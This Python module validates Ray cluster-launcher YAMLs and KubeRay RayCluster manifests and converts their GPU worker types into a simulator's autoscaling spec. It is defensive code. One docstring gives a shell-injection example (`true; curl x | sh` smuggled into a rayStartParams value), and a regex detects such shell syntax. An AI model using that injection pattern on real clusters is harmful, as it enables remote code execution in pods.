"""Validate Ray cluster-launcher YAMLs and KubeRay ``RayCluster`` manifests; read their node types.

Launcher YAMLs go through Ray's own ``prepare_config`` (defaults, node-type limits) and
``validate_config`` (Ray's JSON schema), then the project's checks: every GPU worker type
carries the ``deepshare.io/*`` labels and its ``deepshare_fabric_*`` resource
(:mod:`deepshare.raycluster.labels`), the setup commands install this project and the head
starts the contention monitor (``deepshare agents start``). The on-premises ``local``
provider has one node type whose labels, resources and GPUs are read from the
``ray start`` command in ``worker_start_ray_commands``.

KubeRay manifests are checked for the structure DeepShare relies on: ``kind: RayCluster``,
``spec.enableInTreeAutoscaling: true``, a head group that starts the monitor, and worker
groups with ``minReplicas <= replicas <= maxReplicas`` whose ``rayStartParams`` carry
``num-gpus`` and the fabric resource and whose top-level ``labels`` mapping carries the
``deepshare.io/*`` labels. KubeRay operators from v1.5.0 refuse ``rayStartParams.labels``
("please use the top-level Labels field") and resource settings both in ``rayStartParams``
and the group's top-level ``resources``, so both are rejected here too.

:func:`to_autoscale_spec` turns any of them into the simulator's
:class:`~deepshare.core.autoscaling.spec.AutoscaleSpec`, so the simulated autoscaler and the
YAMLs share node types.
"""

from __future__ import annotations

import copy
import json
import re
import shlex
from collections import Counter
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Mapping


from deepshare.raycluster.placeholders import find_placeholders
from deepshare.raycluster.labels import (
    DEFAULT_RACK,
    FABRIC_RESOURCE,
    PREFIX,
    FabricLabels,
    check_fabric_resource,
    check_label_syntax,
    check_start_resources,
    parse_label_string,
    parse_labels,
    rack_of,
)
from pydantic import ValidationError

from deepshare.core.autoscaling.spec import AutoscaleSpec
from deepshare.core.documents import load_json, load_yaml
from deepshare.core.errors import DeepShareError, shown
from deepshare.core.topology_plain import pcie_switches_problem
from deepshare.core.yamlspec import format_validation_error, read_config_text
from deepshare.infra.raycompat import cluster_config_prepare_and_validate
from deepshare.raycluster.shell_words import (SHELL_OPERATORS, brace_expansion, command_position, exec_lines, pip_installs,
                                              raw_words, runs, shell_words)

MONITOR_COMMAND = "deepshare agents start"
MONITOR_PROGRAM = tuple(MONITOR_COMMAND.split())


@dataclass(frozen=True)
class WorkerType:
    name: str
    gpus: int
    min_nodes: int
    max_nodes: int
    hardware: FabricLabels
    rack: str = DEFAULT_RACK
    """Its ``deepshare.io/rack`` label (the live scheduler's ``rack`` level)."""


@dataclass(frozen=True)
class ClusterYaml:
    path: str
    kind: str
    """The provider (``aws``, ``gcp``, ``local``, ...) or ``kuberay``."""
    cluster_name: str
    idle_timeout_s: float
    workers: tuple[WorkerType, ...]
    placeholders: tuple[tuple[str, str], ...] = ()
    """``(field path, value)`` of the template's fill-ins left as they are (``YOUR-GCP-PROJECT``, ...)."""
    max_workers: int | None = None
    """A launcher YAML's top-level ``max_workers``: most workers over every type (None: no cap)."""

    def describe(self) -> str:
        parts = []
        for w in self.workers:
            h = w.hardware
            parts.append(
                f"{w.name} ({w.min_nodes}..{w.max_nodes} x {w.gpus} {h.gpu_model}, {h.fabric}, "
                f"{h.nic} {h.nic_gbps:g} Gb/s, ${h.price_usd_per_hour:g}/h)"
            )
        text = f"{self.kind} cluster {self.cluster_name!r}: " + "; ".join(parts)
        if self.max_workers is not None and self.max_workers < sum(w.max_nodes for w in self.workers):
            text += f"; at most {self.max_workers} workers in all (max_workers)"
        return text


def load_cluster_yaml(path: str | Path) -> ClusterYaml:
    """Read and validate one cluster YAML or KubeRay manifest (raises DeepShareError)."""
    return parse_cluster_yaml(read_config_text(path, "file"), str(path))


def parse_cluster_yaml(text: str, source: str) -> ClusterYaml:
    """The cluster of ``text``, checked all the way to its autoscaling spec (so a file that
    validates also converts)."""
    raw = load_yaml(text, source, "a Ray cluster config or a RayCluster manifest")
    if not isinstance(raw, dict):
        raise DeepShareError(f"{source}: expected a Ray cluster config or a RayCluster manifest (a mapping)")
    cluster = _kuberay(raw, source) if "kind" in raw or "apiVersion" in raw else _launcher(raw, source)
    cluster = replace(cluster, placeholders=tuple(find_placeholders(raw)))
    to_autoscale_spec(cluster)
    return cluster


def to_autoscale_spec(cluster: ClusterYaml) -> AutoscaleSpec:
    """The cluster's GPU worker types as the simulator's autoscaling pools (each in the rack its
    ``deepshare.io/rack`` label names, ``rack0`` without one); a
    :class:`DeepShareError` naming the file and the spec's field when a value is beyond what the
    simulator takes."""
    pools = {}
    for w in cluster.workers:
        if pcie_switches_problem(w.gpus, w.hardware.pcie_switches):  # named as the label, not the pool's field
            raise DeepShareError(f"{cluster.path}: worker type {w.name!r}: {PREFIX}pcie-switches: at most its "
                                 f"{w.gpus} GPUs (each switch serves a GPU), got {w.hardware.pcie_switches}")
        try:
            pools[w.name] = w.hardware.pool(w.gpus, w.min_nodes, w.max_nodes, w.rack)
        except ValidationError as exc:
            raise DeepShareError(f"{cluster.path}: worker type {w.name!r} as an autoscaling pool: "
                                 f"{format_validation_error(exc)}") from None
    try:
        return AutoscaleSpec(name=cluster.cluster_name, idle_timeout_s=cluster.idle_timeout_s, node_types=pools,
                             max_workers=cluster.max_workers)
    except ValidationError as exc:
        raise DeepShareError(f"{cluster.path}: as an autoscaling spec: {format_validation_error(exc)}") from None


# -- Ray cluster launcher ----------------------------------------------------------------------
def _launcher(raw: dict[str, Any], source: str) -> ClusterYaml:
    provider = raw.get("provider")
    if not isinstance(provider, dict) or not isinstance(provider.get("type"), str):
        raise DeepShareError(f"{source}: provider.type: expected the Ray node provider (aws, gcp, local, ...)")
    if provider["type"] == "local" and raw.get("available_node_types"):
        raise DeepShareError(f"{source}: available_node_types: not allowed with provider.type local (one node type)")
    prepared = _ray_prepare(raw, source)
    _check_commands(prepared, source)
    idle_s = _idle_minutes(prepared.get("idle_timeout_minutes", 5), source) * 60.0
    name = str(prepared["cluster_name"])
    if provider["type"] == "local":
        return ClusterYaml(source, "local", name, idle_s, (_local_worker(prepared, source),))
    cap = prepared.get("max_workers")
    workers = []
    head = prepared["head_node_type"]
    for type_name, node in prepared["available_node_types"].items():
        where = f"{source}: available_node_types.{type_name}"
        labels = node.get("labels", {})
        check_label_syntax(labels, f"{where}.labels")
        resources = node["resources"]
        gpus = int(resources.get("GPU", 0))
        if type_name == head or gpus == 0:
            if any(str(k).startswith(FABRIC_RESOURCE) for k in resources):
                raise DeepShareError(f"{where}.resources: a node type without GPUs carries a deepshare_fabric_* resource")
            continue
        hardware = parse_labels(labels, f"{where}.labels")
        check_fabric_resource(resources, hardware.fabric, f"{where}.resources")
        if node["max_workers"] < 1:
            raise DeepShareError(f"{where}.max_workers: a GPU worker type needs max_workers >= 1")
        workers.append(WorkerType(type_name, gpus, int(node["min_workers"]), int(node["max_workers"]), hardware,
                                  rack_of(labels, f"{where}.labels")))
    if not workers:
        raise DeepShareError(f"{source}: available_node_types: expected at least one GPU worker type (resources.GPU > 0)")
    return ClusterYaml(source, str(provider["type"]), name, idle_s, tuple(workers),
                       max_workers=cap if isinstance(cap, int) and not isinstance(cap, bool) else None)


def _ray_prepare(raw: dict[str, Any], source: str) -> dict[str, Any]:
    """Ray's own ``prepare_config`` + ``validate_config``; their errors become one clear line."""
    try:
        import jsonschema
    except ImportError as exc:  # pragma: no cover - ray[default] is a dependency
        raise DeepShareError(f"validating cluster YAMLs needs Ray's autoscaler ({exc})") from None
    prepare_config, validate_config = cluster_config_prepare_and_validate()
    try:
        jsonschema.validate(raw, _ray_schema())  # before prepare_config, which assumes a sane shape
        prepared = prepare_config(copy.deepcopy(raw))
        validate_config(prepared)
    except jsonschema.ValidationError as exc:
        where = ".".join(str(p) for p in exc.absolute_path) or "<root>"
        raise DeepShareError(f"{source}: {where}: {exc.message} (Ray's cluster schema)") from None
    except Exception as exc:  # noqa: BLE001 - Ray raises ValueError, RuntimeError, KeyError, click errors
        message = getattr(exc, "message", None) or str(exc) or type(exc).__name__
        if isinstance(exc, KeyError) and exc.args:  # str() of a KeyError is the bare key, quoted
            message = f"it expects the key {shown(exc.args[0])}, which is missing"
        raise DeepShareError(f"{source}: Ray rejects the config: {' '.join(str(message).split())}") from None
    return prepared


def _ray_schema() -> dict[str, Any]:
    import ray.autoscaler

    return json.loads((Path(ray.autoscaler.__file__).parent / "ray-schema.json").read_text())


def _check_commands(prepared: Mapping[str, Any], source: str) -> None:
    """Every node pip-installs this project and the head starts the monitor, as the shell reads
    the commands (:mod:`~deepshare.raycluster.shell_words`: not in a comment or an ``echo``)."""
    for key in ("head_setup_commands", "worker_setup_commands"):
        if not any(pip_installs(c, "deepshare", f"{source}: {key}") for c in prepared.get(key, [])):
            raise DeepShareError(f"{source}: setup_commands: expected a pip install of this project (deepshare) on every node")
    where = f"{source}: head_start_ray_commands"
    if not any(runs(c, MONITOR_PROGRAM, where) for c in prepared.get("head_start_ray_commands", [])):
        raise DeepShareError(f"{where}: expected `{MONITOR_COMMAND} --address auto` (the contention monitor)")


def _local_worker(prepared: Mapping[str, Any], source: str) -> WorkerType:
    where = f"{source}: worker_start_ray_commands"
    options: dict[str, str] = {}
    for command in prepared.get("worker_start_ray_commands", []):
        options.update(_ray_start_options(command, where))
    if "--num-gpus" not in options:
        raise DeepShareError(f"{where}: expected `ray start ... --num-gpus=N` on the GPU workers")
    try:
        gpus = int(options["--num-gpus"])
        resources = load_json(options.get("--resources", "{}"), f"{where} --resources", "a JSON object")
    except ValueError as exc:
        raise DeepShareError(f"{where}: --num-gpus must be an integer and --resources JSON ({exc})") from None
    if gpus < 1 or not isinstance(resources, dict):
        raise DeepShareError(f"{where}: expected --num-gpus >= 1 and --resources as a JSON object")
    labels = parse_label_string(options.get("--labels", ""), f"{where} --labels")
    check_label_syntax(labels, f"{where} --labels")
    hardware = parse_labels(labels, f"{where} --labels")
    check_start_resources(resources, f"{where} --resources")
    check_fabric_resource(resources, hardware.fabric, f"{where} --resources")
    ips = prepared["provider"].get("worker_ips", [])
    repeated = sorted(ip for ip, n in Counter(map(str, ips)).items() if n > 1)
    if repeated:  # one machine listed twice is one node, not two
        raise DeepShareError(f"{source}: provider.worker_ips: {', '.join(repeated[:3])} listed more than once")
    count = len(ips)
    if count < 1:
        raise DeepShareError(f"{source}: provider.worker_ips: expected at least one worker")
    return WorkerType("local", gpus, count, count, hardware, rack_of(labels, f"{where} --labels"))


def _ray_start_options(command: str, where: str) -> dict[str, str]:
    """The ``--key=value`` (or ``--key value``) options of the ``ray start`` commands in one shell
    command line, as the shell splits it: comments dropped, options of other commands (``echo start
    --num-gpus=2``) not read, each ``ray start`` ending at a shell operator."""
    words = shell_words(command, where)
    _no_split_options(command, where)
    options: dict[str, str] = {}
    i = 0
    while i < len(words):
        starts = (Path(words[i]).name == "ray" and i + 1 < len(words) and words[i + 1] == "start"
                  and command_position(words, i))
        if not starts:
            i += 1
            continue
        i += 2
        while i < len(words) and words[i] not in SHELL_OPERATORS:
            word = words[i]
            if word.startswith("--") and "=" in word:
                key, _, value = word.partition("=")
                options[key] = value
            elif word.startswith("--") and i + 1 < len(words) and not words[i + 1].startswith("--") \
                    and words[i + 1] not in SHELL_OPERATORS and word in ("--num-gpus", "--resources", "--labels"):
                options[word] = words[i + 1]
                i += 1
            i += 1
    return options


_READ_OPTIONS = ("--num-gpus", "--resources", "--labels")


def _unquoted(word: str) -> str:
    """A raw word as the shell passes it (quotes and escapes removed: ``"$HOME/bin/ray"``, ``'ray'``)."""
    try:
        return "".join(shlex.split(word))
    except ValueError:
        return word


def _no_split_options(command: str, where: str) -> None:
    """Refuse an option of a ``ray start`` the validator reads (:data:`_READ_OPTIONS`) whose value bash's brace
    expansion splits (``--resources={\\"a\\":1,\\"b\\":1}``: one JSON word as ``shlex`` reads
    it, two ``--resources`` options in the shell): the check passed a line that then failed on
    the node."""
    words = raw_words(command)
    inside = False  # in a `ray start` command: from its words to the next operator
    for i, word in enumerate(words):
        if word in SHELL_OPERATORS:
            inside = False
        elif Path(_unquoted(word)).name == "ray" and [_unquoted(w) for w in words[i + 1:i + 2]] == ["start"]:
            inside = True
        name = word.split("=", 1)[0]
        if not inside or name not in _READ_OPTIONS:
            continue
        value = word if "=" in word else (words[i + 1] if i + 1 < len(words) else "")
        expands = brace_expansion(value)
        if expands is not None:
            raise DeepShareError(f"{where}: {name}: bash's brace expansion turns {expands[:40]!r} into several words; "
                                 "quote the value (--resources='{\"a\": 1, \"b\": 1}')")


# -- KubeRay ---------------------------------------------------------------------------------
def _kuberay(raw: dict[str, Any], source: str) -> ClusterYaml:
    if raw.get("apiVersion") != "ray.io/v1" or raw.get("kind") != "RayCluster":  # ray.io/v9 is no CRD version
        raise DeepShareError(f"{source}: expected apiVersion ray.io/v1 and kind RayCluster, got "
                             f"{shown(raw.get('apiVersion'))} / {shown(raw.get('kind'))}")
    name = _get(raw, ("metadata", "name"), str, source)
    if not _DNS_1035.fullmatch(name):  # KubeRay's ValidateRayClusterMetadata
        raise DeepShareError(f"{source}: metadata.name: expected a DNS-1035 label (lowercase letters, digits and '-', "
                             f"a letter first, at most 53 characters, KubeRay's limit), got {shown(name)}")
    spec = _get(raw, ("spec",), dict, source)
    if spec.get("enableInTreeAutoscaling") is not True:
        raise DeepShareError(f"{source}: spec.enableInTreeAutoscaling: expected true (the autoscaler must be on)")
    head = _get(raw, ("spec", "headGroupSpec"), dict, source)
    if not _head_runs_monitor(head, f"{source}: spec.headGroupSpec"):
        raise DeepShareError(f"{source}: spec.headGroupSpec: expected the head to run `{MONITOR_COMMAND} --address auto` (e.g. a postStart hook)")
    if "labels" in (head.get("rayStartParams") or {}):
        raise DeepShareError(
            f"{source}: spec.headGroupSpec.rayStartParams.labels: KubeRay >= 1.5 rejects labels in rayStartParams; "
            "use the head group's top-level labels mapping"
        )
    head_params = head.get("rayStartParams")
    if head_params is not None and not isinstance(head_params, dict):
        raise DeepShareError(f"{source}: spec.headGroupSpec.rayStartParams: expected a mapping of ray start options")
    _check_string_params(head_params or {}, f"{source}: spec.headGroupSpec")
    _check_start_params(head_params or {}, f"{source}: spec.headGroupSpec.rayStartParams")
    if head.get("resources") and any((head_params or {}).get(k) for k in _RESOURCE_PARAMS):  # KubeRay rejects both
        raise DeepShareError(f"{source}: spec.headGroupSpec.resources: set resources either in rayStartParams "
                             "(num-cpus, num-gpus, memory, resources) or in the top-level resources field, not both")
    head_labels = head.get("labels")
    if head_labels is not None:
        if not isinstance(head_labels, dict):
            raise DeepShareError(f"{source}: spec.headGroupSpec.labels: expected a mapping of labels")
        check_label_syntax(head_labels, f"{source}: spec.headGroupSpec.labels")
    groups = _get(raw, ("spec", "workerGroupSpecs"), list, source)
    if not groups:
        raise DeepShareError(f"{source}: spec.workerGroupSpecs: expected at least one GPU worker group")
    options = spec.get("autoscalerOptions")
    if options is not None and not isinstance(options, dict):
        raise DeepShareError(f"{source}: spec.autoscalerOptions: expected a mapping, got {type(options).__name__}")
    idle = (options or {}).get("idleTimeoutSeconds", 60)
    if not _int32(idle) or idle < 0:
        raise DeepShareError(f"{source}: spec.autoscalerOptions.idleTimeoutSeconds: expected whole seconds >= 0 "
                             f"(an int32, as the CRD says), got {idle!r}")
    workers = tuple(_kuberay_group(g, f"{source}: spec.workerGroupSpecs[{i}]") for i, g in enumerate(groups))
    names = [w.name for w in workers]
    if len(set(names)) != len(names):
        raise DeepShareError(f"{source}: spec.workerGroupSpecs: duplicate groupName in {names}")
    return ClusterYaml(source, "kuberay", name, float(idle), workers)


MAX_IDLE_MINUTES = 525_600
"""A year: Ray's schema takes any integer, and a 400-digit one made ``float()`` overflow (a traceback)."""


def _idle_minutes(value: Any, source: str) -> float:
    """``idle_timeout_minutes`` as a number of minutes, 0 to a year; else one line naming it."""
    if isinstance(value, bool) or not isinstance(value, (int, float)) or not 0 <= value <= MAX_IDLE_MINUTES:
        raise DeepShareError(f"{source}: idle_timeout_minutes: expected minutes from 0 to {MAX_IDLE_MINUTES:,} "
                             f"(a year), got {shown(value)}")
    return float(value)


def _int32(value: Any) -> bool:
    """Whether ``value`` is what the CRD's ``int32`` fields hold (not a bool, not a float)."""
    return isinstance(value, int) and not isinstance(value, bool) and -2**31 <= value < 2**31


_DNS_1035 = re.compile(r"[a-z]([-a-z0-9]{0,51}[a-z0-9])?")
"""A DNS-1035 label of at most 53 characters: what KubeRay takes as a RayCluster's name
(``MaxRayClusterNameLength``)."""
_GROUP_NAME = re.compile(r"[A-Za-z0-9]([-A-Za-z0-9.]{0,61}[A-Za-z0-9])?")
"""A group's name: a Kubernetes label value (KubeRay sets it as its pods' ``ray.io/group``)
without ``_``, which the pods' names (``CLUSTER-GROUP-worker-...``, a DNS subdomain) cannot hold."""
_RESOURCE_PARAMS = ("num-cpus", "num-gpus", "memory", "resources")
"""``rayStartParams`` that KubeRay refuses beside a group's top-level ``resources``."""


def _check_string_params(params: Mapping[str, Any], where: str) -> None:
    """Every ``rayStartParams`` value a string: the CRD's rayStartParams is a map of strings, so
    kubectl refuses ``num-gpus: 4`` (the head's as a worker group's)."""
    unquoted = [key for key, value in params.items() if not isinstance(value, str)]
    if unquoted:
        raise DeepShareError(f"{where}.rayStartParams.{unquoted[0]}: expected a string (quote it: KubeRay's CRD "
                             f"takes strings only), got {shown(params[unquoted[0]])}")


_DIGITS = re.compile(r"[0-9]{1,9}")
"""A count as KubeRay passes it to ``ray start``: ASCII digits (``int`` also takes ``" 4\n"``
and other scripts' digits, which the flag does not)."""


def _kuberay_group(group: Any, where: str) -> WorkerType:
    """The group's worker type."""
    if not isinstance(group, dict):
        raise DeepShareError(f"{where}: expected a mapping")
    name = group.get("groupName")
    if not isinstance(name, str) or not _GROUP_NAME.fullmatch(name):  # a pod label value and part of pod names
        raise DeepShareError(f"{where}.groupName: expected a name that is a Kubernetes label value and fits a pod's "
                             f"name (letters, digits, '-', '.', alphanumeric at both ends, at most 63 characters), "
                             f"got {shown(name)}")
    if "idleTimeoutSeconds" in group:  # the CRD's per-group timeout: the simulator has one for the cluster
        raise DeepShareError(f"{where}.idleTimeoutSeconds: a group's own idle timeout is not modelled (the "
                             "simulated autoscaler has one, spec.autoscalerOptions.idleTimeoutSeconds); remove it")
    lo, hi = group.get("minReplicas"), group.get("maxReplicas")
    if not _int32(lo) or not _int32(hi) or not 0 <= lo <= hi or hi < 1:
        raise DeepShareError(f"{where}: expected integers 0 <= minReplicas <= maxReplicas, maxReplicas >= 1; got {lo!r}, {hi!r}")
    replicas = group.get("replicas", lo)
    if not _int32(replicas) or not lo <= replicas <= hi:
        raise DeepShareError(f"{where}.replicas: expected an integer within minReplicas..maxReplicas, got {replicas!r}")
    hosts = group.get("numOfHosts", 1)
    if hosts != 1 or isinstance(hosts, bool):
        raise DeepShareError(f"{where}.numOfHosts: {hosts!r}: multi-host groups (a replica of several pods, scaled "
                             "together) are not modelled; expected 1 (one pod per replica)")
    suspend = group.get("suspend", False)
    if not isinstance(suspend, bool):
        raise DeepShareError(f"{where}.suspend: expected true or false, got {suspend!r}")
    if suspend:  # KubeRay's ValidateRayClusterSpec: no suspended group while the autoscaler is on
        raise DeepShareError(f"{where}.suspend: true: KubeRay refuses a suspended worker group while "
                             "enableInTreeAutoscaling is on; remove the group, or set suspend: false")
    params = group.get("rayStartParams")
    if not isinstance(params, dict):
        raise DeepShareError(f"{where}.rayStartParams: expected a mapping with num-gpus, resources and labels")
    _check_string_params(params, where)
    count = params.get("num-gpus", "")
    if not _DIGITS.fullmatch(count):
        raise DeepShareError(f"{where}.rayStartParams.num-gpus: expected the GPUs per pod as a string integer "
                             f"(digits only), got {count!r}")
    gpus = int(count)
    if gpus < 1:
        raise DeepShareError(f"{where}.rayStartParams.num-gpus: expected >= 1, got {gpus}")
    _check_start_params(params, f"{where}.rayStartParams")  # after num-gpus, whose own message is the plainer
    resources = _kuberay_resources(params.get("resources", ""), f"{where}.rayStartParams.resources")
    labels = _kuberay_labels(group, params, where)
    hardware = parse_labels(labels, f"{where}.labels")
    check_fabric_resource(resources, hardware.fabric, f"{where}.rayStartParams.resources")
    containers = _containers(group, where)
    if not containers:  # KubeRay: a group needs a container
        raise DeepShareError(f"{where}.template.spec.containers: expected the Ray container (KubeRay runs "
                             "containers[0]), got none")
    for i, container in enumerate(containers):
        limit = _mapping(_mapping(container, "resources", f"{where}.template.spec.containers[{i}]"), "limits",
                         f"{where}.template.spec.containers[{i}].resources").get("nvidia.com/gpu")
        if i == 0 and limit is None:  # ray start would advertise num-gpus GPUs the pod does not have
            raise DeepShareError(f"{where}.template.spec.containers[0].resources.limits.nvidia.com/gpu: missing; "
                                 f"expected {gpus} (num-gpus): the Ray container must hold the GPUs it advertises")
        if limit is not None and str(limit) != str(gpus):
            raise DeepShareError(
                f"{where}.template.spec.containers[{i}].resources.limits.nvidia.com/gpu: {limit} differs from num-gpus {gpus}"
            )
    return WorkerType(name, gpus, lo, hi, hardware, rack_of(labels, f"{where}.labels"))


_START_KEY = re.compile(r"[a-z0-9][a-z0-9-]{0,63}")
"""A ``ray start`` option name as a ``rayStartParams`` key (``num-gpus``, ``dashboard-host``)."""
_SHELL_COMMAND = re.compile(r"[;&|<>`\n\r]|\$\(")
"""Text that makes bash run something else: a command separator, a pipe, a redirection, a
command substitution. (``$VAR`` stays: KubeRay's own examples pass ``node-ip-address: $MY_POD_IP``.)"""


def _check_start_params(params: dict[str, Any], where: str) -> None:
    """Every ``rayStartParams`` key is an option name and every value (but ``resources``, a quoted
    JSON object, :func:`_kuberay_resources`) holds no shell command: KubeRay pastes each pair as
    ``--KEY=VALUE`` into the ``ray start`` line bash runs in the pod, so ``block: "true; curl x |
    sh"`` ran ``curl`` there, and a key is pasted the same way."""
    for key, value in params.items():
        if not isinstance(key, str) or not _START_KEY.fullmatch(key):
            raise DeepShareError(f"{where}: {str(key)[:80]!r}: expected a ray start option name (lower-case letters, "
                                 "digits and '-', as num-gpus)")
        if key != "resources" and isinstance(value, str) and _SHELL_COMMAND.search(value):
            raise DeepShareError(f"{where}.{key}: {value[:80]!r} holds shell syntax (; & | < > ` $( or a newline) "
                                 "that bash would run in KubeRay's `ray start` line; expected a plain value")
        expands = brace_expansion(value) if isinstance(value, str) else None
        if expands is not None:
            raise DeepShareError(f"{where}.{key}: {value[:80]!r}: bash's brace expansion turns {expands[:40]!r} into "
                                 "several words in KubeRay's `ray start` line; quote the value")


def _kuberay_resources(value: str, where: str) -> dict[str, Any]:
    """``rayStartParams.resources`` as ``ray start`` gets it: KubeRay pastes the value verbatim
    into ``ray start ... --resources=VALUE``, a line bash runs, so the value must be one shell word
    (the JSON object in double quotes, as shipped, or in single quotes) whose text is a JSON
    object of custom resources (:func:`~deepshare.raycluster.labels.check_start_resources`).
    Unquoted JSON splits at its spaces and ``ray start`` fails in the pod."""
    example = f"""'"{{\\"{FABRIC_RESOURCE}nvlink\\": 1}}"'"""
    expands = brace_expansion(value)
    if expands is not None:
        raise DeepShareError(f"{where}: {value[:80]!r}: bash's brace expansion turns {expands[:40]!r} into several "
                             f"`--resources` words in KubeRay's `ray start` line; expected a quoted JSON object such "
                             f"as {example}")
    try:
        words = shlex.split(value)
    except ValueError as exc:
        raise DeepShareError(f"{where}: {value[:80]!r} is not valid shell text ({exc}); expected a quoted JSON object "
                             f"such as {example}") from None
    if len(words) > 1:
        raise DeepShareError(f"{where}: {value[:80]!r} is {len(words)} shell words in KubeRay's `ray start "
                             f"--resources=...` line; expected one, a JSON object in quotes such as {example}")
    try:
        resources = load_json(words[0], where, "a JSON object") if words else None
    except DeepShareError:
        resources = None
    if not isinstance(resources, dict):
        raise DeepShareError(f"{where}: expected a JSON object in quotes such as {example}, got {value[:80]!r}")
    check_start_resources(resources, where)
    return resources


def _mapping(parent: Any, key: str, where: str) -> dict[str, Any]:
    """``parent[key]`` when it is a mapping, ``{}`` when absent or null; else one line naming it."""
    value = parent.get(key) if isinstance(parent, dict) else None
    if value is None:
        return {}
    if not isinstance(value, dict):
        raise DeepShareError(f"{where}.{key}: expected a mapping, got {type(value).__name__}")
    return value


def _head_runs_monitor(head: dict[str, Any], where: str) -> bool:
    """Whether a container of the head's pod runs the monitor: in its ``command`` + ``args`` or a
    ``postStart`` exec hook, as the shell reads them (a mention in an annotation, a comment or an
    ``echo`` is not a start)."""
    for i, container in enumerate(_containers(head, where)):
        here = f"{where}.template.spec.containers[{i}]"
        lifecycle = _mapping(container, "lifecycle", here)  # each level one line naming it, never a traceback
        hook = _mapping(_mapping(lifecycle, "postStart", f"{here}.lifecycle"), "exec", f"{here}.lifecycle.postStart")
        argvs = [[*(container.get("command") or []), *(container.get("args") or [])], hook.get("command") or []]
        for argv in argvs:
            if isinstance(argv, list) and all(isinstance(word, str) for word in argv):
                if any(runs(line, MONITOR_PROGRAM, here) for line in exec_lines(argv)):
                    return True
    return False


def _containers(group: dict[str, Any], where: str) -> list[Any]:
    """The group's pod template's containers (each a mapping), checked for shape."""
    spec = _mapping(_mapping(group, "template", where), "spec", f"{where}.template")
    containers = spec.get("containers") or []
    if not isinstance(containers, list):
        raise DeepShareError(f"{where}.template.spec.containers: expected a list, got {type(containers).__name__}")
    for i, container in enumerate(containers):
        if not isinstance(container, dict):
            raise DeepShareError(f"{where}.template.spec.containers[{i}]: expected a mapping, got {type(container).__name__}")
    return containers


def _kuberay_labels(group: Mapping[str, Any], params: Mapping[str, Any], where: str) -> dict[str, str]:
    """The group's top-level ``labels`` (KubeRay >= 1.5); the old ``rayStartParams.labels`` is refused."""
    if "labels" in params:
        raise DeepShareError(
            f"{where}.rayStartParams.labels: KubeRay >= 1.5 rejects labels in rayStartParams; "
            "use the group's top-level labels mapping (labels: {deepshare.io/fabric: nvlink, ...})"
        )
    if group.get("resources"):
        raise DeepShareError(
            f"{where}.resources: set resources either in rayStartParams (num-gpus, resources) or in the "
            "top-level resources field, not both (KubeRay rejects both)"
        )
    labels = group.get("labels")
    if not isinstance(labels, dict):
        raise DeepShareError(f"{where}.labels: expected a mapping of deepshare.io/* labels (KubeRay's top-level labels field)")
    check_label_syntax(labels, f"{where}.labels")
    return labels


def _get(raw: Mapping[str, Any], path: tuple[str, ...], kind: type, source: str) -> Any:
    value: Any = raw
    for key in path:
        value = value.get(key) if isinstance(value, dict) else None
    if not isinstance(value, kind):
        raise DeepShareError(f"{source}: {'.'.join(path)}: expected a {kind.__name__}")
    return value
